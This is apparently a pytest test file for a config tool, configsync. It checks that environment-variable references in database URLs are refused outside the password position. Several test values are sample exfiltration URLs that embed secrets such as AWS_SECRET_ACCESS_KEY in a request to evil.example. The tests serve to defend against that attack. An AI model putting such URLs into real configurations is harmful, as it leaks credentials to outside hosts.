"""`${VAR}` in `database` / `environments` stands only for a whole URL or its password.

Anywhere else a configsync.yaml from a pull request could carry any variable of
the environment to a host of its choosing
(``https://evil.example/${AWS_SECRET_ACCESS_KEY}``).
"""
from __future__ import annotations

from pathlib import Path

import psycopg
import pytest
from configsync.backends.supabase.settings import settings_from_url
from configsync.config import load_config, resolve_database
from configsync.errors import ConfigError
from helpers import init_repo, run

NASTY = "p@ss/w#rd?%zz 'q\"\\é"
ALLOWED = "a ${VAR} may stand only for the whole URL (${DATABASE_URL}) or for its whole password"


def config_with(tmp_path: Path, database: str) -> Path:
    path = tmp_path / "configsync.yaml"
    path.write_text(f"database: '{database}'\nenvironments:\n  prod: '{database}'\ntables:\n  t: {{}}\n")
    return path


@pytest.mark.parametrize(("value", "name"), [
    ("https://evil.example/${AWS_SECRET_ACCESS_KEY}", "AWS_SECRET_ACCESS_KEY"),
    ("https://evil.example/?k=${AWS_SECRET_ACCESS_KEY}", "AWS_SECRET_ACCESS_KEY"),
    ("https://${AWS_SECRET_ACCESS_KEY}.evil.example", "AWS_SECRET_ACCESS_KEY"),
    ("postgresql://${PGUSER}:${PGPASSWORD}@h/db", "PGUSER"),
    ("postgresql://u:pw@${PGHOST}/db", "PGHOST"),
    ("postgresql://u:pw@h/db?application_name=${AWS_SECRET_ACCESS_KEY}", "AWS_SECRET_ACCESS_KEY"),
    ("postgresql://u:x${PGPASSWORD}@h/db", "PGPASSWORD"),
    ("postgresql://u:${A}${B}@h/db", "A"),
    ("${SCHEME}://u:pw@h/db", "SCHEME"),
    ("host=h password=${PGPASSWORD} options=${AWS_SECRET_ACCESS_KEY}", "AWS_SECRET_ACCESS_KEY"),
])
@pytest.mark.parametrize("setting", ["database", "environments.prod"])
def test_reference_outside_the_password_is_refused(tmp_path: Path, value: str, name: str, setting: str) -> None:
    config = load_config(config_with(tmp_path, value))
    environ = {n: "leaked-secret-value" for n in ("AWS_SECRET_ACCESS_KEY", "PGUSER", "PGPASSWORD", "PGHOST", "A", "B",
                                                  "SCHEME")}
    with pytest.raises(ConfigError) as info:
        resolve_database(config, env="prod" if setting != "database" else None, environ=environ)
    message = str(info.value)
    assert message.startswith(f"{setting}: ${{{name}}} is not allowed there: {ALLOWED}"), message
    assert "leaked-secret-value" not in message


@pytest.mark.parametrize(("value", "read_back"), [
    ("${DATABASE_URL}", None),
    ("postgresql://u:${PGPASSWORD}@db.example.com:5432/app", "password"),
    ("postgres://u@h1:5432,h2:5433/app?sslmode=require&password=${PGPASSWORD}", "password"),
    ("host=db.example.com password=${PGPASSWORD} dbname=app", "password"),
])
def test_whole_url_or_whole_password_is_expanded(tmp_path: Path, value: str, read_back: str | None) -> None:
    """The password is inserted encoded, so libpq reads back exactly the
    variable's value, whatever characters it holds."""
    config = load_config(config_with(tmp_path, value))
    environ = {"DATABASE_URL": "postgresql://u:pw@h/db", "PGPASSWORD": NASTY}
    url = resolve_database(config, env="prod", environ=environ)
    if read_back is None:
        assert url == "postgresql://u:pw@h/db"
    else:
        assert psycopg.conninfo.conninfo_to_dict(url)[read_back] == NASTY


def test_rest_key_as_the_password(tmp_path: Path) -> None:
    key = "sb_secret_a/b@c#d?e%f"
    config = load_config(config_with(tmp_path, "https://service_role:${SUPABASE_SERVICE_ROLE_KEY}@abc.supabase.co"))
    url = resolve_database(config, env="prod", environ={"SUPABASE_SERVICE_ROLE_KEY": key})
    assert settings_from_url(url, "shown", {}) == ("https://abc.supabase.co", key)


def test_the_command_line_and_the_missing_variable(tmp_path: Path) -> None:
    config = load_config(config_with(tmp_path, "sqlite:///x.db"))
    with pytest.raises(ConfigError, match=r"^--database: \$\{SECRET\} is not allowed there"):
        resolve_database(config, database="https://evil.example/${SECRET}", environ={"SECRET": "s"})
    with pytest.raises(ConfigError, match="^--database: environment variable PGPASSWORD is not set"):
        resolve_database(config, database="postgresql://u:${PGPASSWORD}@h/db", environ={})


def test_plan_refuses_before_reading_the_variable(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """End to end: the configsync.yaml of a pull request names an environment
    that would send a secret variable away; plan exits 1 naming the setting."""
    repo = tmp_path / "repo"
    init_repo(repo, config=(
        "environments:\n  prod: https://evil.example/${AWS_SECRET_ACCESS_KEY}\n"
        "tables:\n  system_config:\n    key: config_key\n"
    ))
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "leaked-secret-value")
    result = run(repo, "plan", "--env", "prod")
    assert result.code == 1, result.text
    assert f"environments.prod: ${{AWS_SECRET_ACCESS_KEY}} is not allowed there: {ALLOWED}" in result.err
    assert "leaked-secret-value" not in result.text and "Traceback" not in result.text
